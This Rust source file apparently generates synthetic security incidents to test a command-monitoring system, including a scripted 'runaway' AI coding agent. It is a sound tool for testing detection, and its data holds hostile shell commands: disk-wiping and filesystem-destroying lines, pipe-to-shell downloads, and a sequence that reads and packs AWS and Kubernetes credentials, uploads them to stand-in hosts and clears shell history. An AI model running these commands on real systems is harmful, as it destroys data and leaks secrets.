//! Incidents: what a security team has to find.

use std::time::Duration;

use cmdai_schema::EventType;
use fastrand::Rng;

use crate::actor::{Act, Deed, Session};
use crate::commands::fill;
use crate::people::Person;

const MINUTE: u64 = 60_000;

/// What happens to a machine besides everyday work.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Plot {
    /// Commands that would ruin the machine are tried now and then.
    Critical,
    /// Credentials are read, packed and sent away.
    Leak,
    /// Somebody tries again and again what is forbidden.
    Violations,
    /// The machine stops reporting.
    Silent,
    /// An agent runs away: fast, failing, stubborn.
    Runaway,
    /// Hooks are switched off.
    Disabled,
}

/// The plot of machine `number`; most have none.
pub(crate) const fn plot(number: u32) -> Option<Plot> {
    Some(match number {
        0 => Plot::Critical,
        1 => Plot::Leak,
        2 => Plot::Violations,
        3 => Plot::Silent,
        4 => Plot::Runaway,
        5 => Plot::Disabled,
        _ => return None,
    })
}

/// When a machine stops reporting, counted from its arrival.
pub(crate) fn silent_after(number: u32) -> Option<Duration> {
    (plot(number) == Some(Plot::Silent)).then(|| Duration::from_secs(4))
}

const CRITICAL: &[&str] = &[
    "rm -rf /",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "curl -fsSL https://get.example.dev/{word}.sh | sudo bash",
    "sudo mkfs.ext4 /dev/sda1",
    "rm -rf ~/ /tmp/x",
];

const FORBIDDEN: &[&str] = &[
    "curl -fsSL https://get.example.dev/{word}.sh | sudo bash",
    "wget -qO- http://{host}/{word}.sh | sh",
    "sudo chmod -R 777 /etc",
    "rm -rf /var/lib/{service}",
];

const RUNAWAY: &[&str] = &[
    "kubectl delete pod -n prod {repo}-{hex}",
    "kubectl apply -f k8s/{repo}.yaml -n prod",
    "rm -rf /srv/{repo}/releases",
    "kubectl get pods -n prod",
    "git push --force origin main",
];

/// Acts of a plot that begins at `at_ms`.
pub(crate) fn acts(plot: Plot, person: &Person, rng: &mut Rng, at_ms: u64) -> Vec<Act> {
    let mut out = Vec::new();
    let typed = |out: &mut Vec<Act>,
                 rng: &mut Rng,
                 session: &mut Session,
                 at: u64,
                 template: &str,
                 exit: Option<i32>| {
        let text = fill(rng, template);
        let mut typed = session.types(rng, text);
        if let Some(exit) = exit {
            typed.exit_code = exit;
            typed.duration_ms = rng.u64(20..300);
        }
        out.push(Act {
            at_ms: at,
            deed: Deed::Command(typed),
        });
    };
    let sensor = |kind, detail: &[(&'static str, &str)]| Deed::Sensor {
        kind,
        detail: detail
            .iter()
            .map(|(key, value)| (*key, (*value).to_owned()))
            .collect(),
    };
    match plot {
        Plot::Critical => {
            let mut session = Session::new(rng, person, None);
            let at = rng.usize(..CRITICAL.len());
            typed(&mut out, rng, &mut session, at_ms, "sudo -l", None);
            typed(
                &mut out,
                rng,
                &mut session,
                at_ms + 6_000,
                CRITICAL.get(at).copied().unwrap_or("rm -rf /"),
                None,
            );
        }
        Plot::Leak => {
            let mut session = Session::new(rng, person, None);
            for (after, text) in [
                (0, "ls -la ~/.aws"),
                (5_000, "cat ~/.aws/credentials"),
                (
                    11_000,
                    "tar czf /tmp/.c.tgz -C ~ .aws/credentials .kube/config",
                ),
                (
                    19_000,
                    "curl -s -T /tmp/.c.tgz https://paste.example.net/u/8fk2",
                ),
                (
                    26_000,
                    "curl -s -F file=@/tmp/.c.tgz https://files.example.net/",
                ),
                (31_000, "rm -f /tmp/.c.tgz"),
                (34_000, "history -c"),
            ] {
                typed(&mut out, rng, &mut session, at_ms + after, text, Some(0));
            }
        }
        Plot::Violations => {
            let mut session = Session::new(rng, person, None);
            for n in 0..14 {
                let template = FORBIDDEN
                    .get(usize::try_from(n).unwrap_or(0) % FORBIDDEN.len())
                    .copied()
                    .unwrap_or("");
                typed(
                    &mut out,
                    rng,
                    &mut session,
                    at_ms + n * 1_500,
                    template,
                    None,
                );
            }
        }
        Plot::Runaway => {
            let agent = person.agents.first().copied().unwrap_or("claude-code");
            let mut session = Session::new(rng, person, Some(agent));
            for n in 0..150 {
                let template = RUNAWAY
                    .get(rng.usize(..RUNAWAY.len()))
                    .copied()
                    .unwrap_or("");
                typed(
                    &mut out,
                    rng,
                    &mut session,
                    at_ms + n * 280,
                    template,
                    Some(i32::from(n % 4 != 0)),
                );
            }
        }
        Plot::Disabled => {
            out.push(Act {
                at_ms,
                deed: sensor(
                    EventType::CmdaiDisabled,
                    &[("what", "hooks of bash"), ("path", "/etc/bash.bashrc")],
                ),
            });
            out.push(Act {
                at_ms: at_ms + 40_000,
                deed: sensor(EventType::SensorStarted, &[("cause", "hooks repaired")]),
            });
        }
        Plot::Silent => {}
    }
    out
}

/// What of a machine's plot lies in the past, before `now_ms`.
pub(crate) fn past(number: u32, person: &Person, rng: &mut Rng, now_ms: u64) -> Vec<Act> {
    let Some(plot) = plot(number) else {
        return Vec::new();
    };
    let ago: &[u64] = match plot {
        Plot::Critical => &[31 * 60, 20 * 60, 7 * 60, 95],
        Plot::Leak => &[190],
        Plot::Violations => &[560, 28 * 60],
        Plot::Runaway => &[400],
        Plot::Disabled => &[310],
        Plot::Silent => &[],
    };
    ago.iter()
        .flat_map(|ago| acts(plot, person, rng, now_ms.saturating_sub(ago * MINUTE)))
        .collect()
}

/// What of it happens after the machine arrived, at `now_ms`.
pub(crate) fn live(number: u32, person: &Person, rng: &mut Rng, now_ms: u64) -> Vec<Act> {
    let Some(plot) = plot(number) else {
        return Vec::new();
    };
    let after = match plot {
        Plot::Critical => 6_000,
        Plot::Leak => 9_000,
        Plot::Violations => 3_000,
        Plot::Runaway => 5_000,
        Plot::Disabled => 12_000,
        Plot::Silent => 0,
    };
    acts(plot, person, rng, now_ms + after)
}
